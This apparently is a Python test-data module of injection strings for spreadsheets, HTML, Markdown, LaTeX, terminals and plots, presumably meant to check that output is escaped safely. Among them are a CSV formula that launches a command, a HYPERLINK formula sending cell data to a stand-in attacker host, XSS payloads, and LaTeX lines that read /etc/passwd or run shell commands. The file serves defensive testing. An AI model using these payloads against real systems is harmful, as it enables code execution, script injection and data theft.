"""Texts that a spreadsheet, browser, Markdown, LaTeX, terminal or plot could interpret."""

SPREADSHEET = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1",
    " =1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1+1)", "\u3000=1+1", "\xa0=1+1", "\ufeff=1+1",
    "\u200b=1+1", "\x00=1+1", "\x0b@x", "\u2028=1+1", "\u22121+1", '"=1+1', '","=1+1', 'a",=1+1,"b',
    '=HYPERLINK("http://evil.example?"&A1,"x")', "'=1+1", ";=1+1", "a\n=1+1", "a\r\n=1+1\r\n",
    "|=1+1",
    "%0A=1+1",
]  # fmt: skip
HTML = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</td></table><script>1</script>",
    "&lt;script&gt;", "&#60;script&#62;", '" onmouseover="alert(1)', "' onfocus='alert(1)",
    "<!--", "]]>", "</style><svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>",
]  # fmt: skip
MARKDOWN = [
    "[x](javascript:alert(1))", "](javascript:alert(1))", "![x](http://evil.example/x.png)",
    "|", "a | b | c", "`code`", "```", "**bold**", "~~gone~~", "# heading", "<http://evil.example>",
    "http://evil.example", "www.evil.example", "a@evil.example", "[^1]", "$\\frac{1}{2}$",
    "\\", "\\|",
    "a\n\n# b", "@someone", ":smile:",
]  # fmt: skip
LATEX = [
    "\\input{/etc/passwd}", "\\write18{id}", "\\end{document}", "\\end{tabular}", "%",
    "a & b", "#1",
    "$x$", "$$", "x_1^2", "{", "}", "~", "\\\\", "^^5cinput{/etc/passwd}", "\\def\\x{\\x}\\x", '"',
    "\\immediate\\openout1=x", "--", "\\verb|x|",
]  # fmt: skip
TERMINAL = [
    "\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x1b[2J",
    "\x9b31m", "\x07", "a\x08b", "\rover", "\u202eabc", "\u2066abc\u2069", "\u200fabc", "a\u0000b",
    "[red]x[/red]", "[link=http://evil.example]x[/link]", "[/]", "\x7f", "\u2028", "\ud800",
]  # fmt: skip
PLOT = ["$\\frac{$", "$\\frac{1}{2}$", "$", "\\$", "$\\undefined$", "_", "{", "数😀", "$\\text{a"]
PAYLOADS = list(dict.fromkeys([*SPREADSHEET, *HTML, *MARKDOWN, *LATEX, *TERMINAL, *PLOT]))
